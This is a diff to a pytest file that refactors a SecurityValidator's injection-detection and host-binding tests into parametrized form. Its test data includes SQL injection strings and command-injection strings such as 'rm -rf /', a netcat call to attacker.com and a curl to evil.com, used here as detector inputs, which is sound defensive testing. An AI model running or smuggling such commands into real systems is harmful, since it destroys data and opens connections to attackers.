@@ -4,6 +4,22 @@ import pytest
 
 from src.validators import InputValidator, SecurityValidator
 
+# Shared inputs for the injection-pattern tests, built once at import
+_SQL_INJECTION_INPUTS = (
+    "' or '1'='1",
+    "'; DROP TABLE users; --",
+    "UNION SELECT * FROM passwords",
+    "INSERT INTO users VALUES",
+)
+_COMMAND_INJECTION_INPUTS = (
+    "; rm -rf /",
+    "| nc attacker.com 1234",
+    "&& curl evil.com",
+    "$(malicious command)",
+    "`dangerous command`",
+)
+_CLEAN_INPUTS = ("normal text", "user@example.com", "file.txt", "some-project-name")
+
 
 class TestInputValidator:
     """Test input validation utilities."""
@@ -302,72 +318,43 @@ class TestInputValidator:
 class TestSecurityValidator:
     """Test security validation utilities."""
 
-    def test_check_for_injection_patterns_sql(self):
-        """Test detection of SQL injection patterns."""
-        sql_injection_patterns = [
-            "' or '1'='1",
-            "'; DROP TABLE users; --",
-            "UNION SELECT * FROM passwords",
-            "INSERT INTO users VALUES",
-        ]
-        
-        for pattern in sql_injection_patterns:
-            threats = SecurityValidator.check_for_injection_patterns(pattern)
-            assert len(threats) > 0, f"Should detect SQL injection in: {pattern}"
-
-    def test_check_for_injection_patterns_command(self):
-        """Test detection of command injection patterns."""
-        command_injection_patterns = [
-            "; rm -rf /",
-            "| nc attacker.com 1234",
-            "&& curl evil.com",
-            "$(malicious command)",
-            "`dangerous command`",
-        ]
-        
-        for pattern in command_injection_patterns:
-            threats = SecurityValidator.check_for_injection_patterns(pattern)
-            assert len(threats) > 0, f"Should detect command injection in: {pattern}"
+    @pytest.mark.parametrize(
+        "pattern", _SQL_INJECTION_INPUTS + _COMMAND_INJECTION_INPUTS
+    )
+    def test_check_for_injection_patterns_detected(self, pattern):
+        """Test detection of SQL and command injection patterns."""
+        threats = SecurityValidator.check_for_injection_patterns(pattern)
+        assert len(threats) > 0, f"Should detect injection in: {pattern}"
 
-    def test_check_for_injection_patterns_clean(self):
+    @pytest.mark.parametrize("clean_input", _CLEAN_INPUTS)
+    def test_check_for_injection_patterns_clean(self, clean_input):
         """Test that clean input doesn't trigger false positives."""
-        clean_inputs = [
-            "normal text",
-            "user@example.com",
-            "file.txt",
-            "some-project-name",
-        ]
-        
-        for clean_input in clean_inputs:
-            threats = SecurityValidator.check_for_injection_patterns(clean_input)
-            assert len(threats) == 0, f"Clean input should not trigger threats: {clean_input}"
+        threats = SecurityValidator.check_for_injection_patterns(clean_input)
+        assert len(threats) == 0, f"Clean input should not trigger threats: {clean_input}"
 
-    def test_validate_host_binding_safe(self):
-        """Test validation of safe host bindings."""
-        safe_hosts = [
-            "127.0.0.1",
+    @pytest.mark.parametrize(
+        "host,expected_valid,expect_warning",
+        [
+            ("127.0.0.1", True, False),
+            ("localhost", True, False),
+            ("0.0.0.0", True, True),
+            ("", False, False),
+            ("192.168.1.1", False, False),
+            ("example.com", False, False),
+            ("0.0.0.1", False, False),
+        ],
+        ids=[
+            "loopback-ip",
             "localhost",
-        ]
-        
-        for host in safe_hosts:
-            is_valid, message = SecurityValidator.validate_host_binding(host)
-            assert is_valid, f"Host {host} should be safe: {message}"
-
-    def test_validate_host_binding_warning(self):
-        """Test validation of host binding with warning."""
-        is_valid, message = SecurityValidator.validate_host_binding("0.0.0.0")
-        assert is_valid, "0.0.0.0 should be valid"
-        assert "WARNING" in message, "Should warn about 0.0.0.0"
-
-    def test_validate_host_binding_unsafe(self):
-        """Test validation of unsafe host bindings."""
-        unsafe_hosts = [
-            "",
-            "192.168.1.1",
-            "example.com",
-            "0.0.0.1",
-        ]
-        
-        for host in unsafe_hosts:
-            is_valid, message = SecurityValidator.validate_host_binding(host)
-            assert not is_valid, f"Host {host} should be unsafe"
\ No newline at end of file
+            "all-interfaces-warning",
+            "empty",
+            "private-ip",
+            "hostname",
+            "near-all-interfaces",
+        ],
+    )
+    def test_validate_host_binding(self, host, expected_valid, expect_warning):
+        """Test host binding validation across safe, warning and unsafe hosts."""
+        is_valid, message = SecurityValidator.validate_host_binding(host)
+        assert is_valid is expected_valid, f"Host {host!r}: {message}"
+        assert message.startswith("WARNING:") is expect_warning